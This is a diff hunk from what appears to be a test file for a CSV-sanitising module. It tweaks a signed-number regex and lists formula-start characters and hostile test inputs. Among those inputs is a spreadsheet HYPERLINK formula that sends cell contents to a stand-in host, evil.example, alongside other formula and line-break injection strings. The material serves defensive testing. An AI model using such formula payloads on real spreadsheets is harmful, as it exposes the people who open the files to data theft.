@@ -15,7 +15,7 @@ from readiness.safe import ARROW_ROWS, csv_safe, inside, neutralise, slugify, wr
 # What must never start a cell read back: formula characters, tab, and every line break str.splitlines() knows.
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85",
                  "\u2028", "\u2029")
-SIGNED_NUMBER = re.compile(r"[+-]([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?")
+SIGNED_NUMBER = re.compile(r"[+-]([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?|-")  # a lone "-" stays
 HOSTILE = ["\r=1+1", "\n=cmd", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(A1:A9)", "\t=1",
            "+1+1", "-1+1", "Acme\r\n=2+2", "two\r\nlines", "bare\rreturn", "line\nfeed", "sep\u2028=3+3",
            "\u2028=4+4", "para\u2029graph", "\x85next", "\x0b=5", "\x0cform", 'say "hi", then go', '"=quoted"',
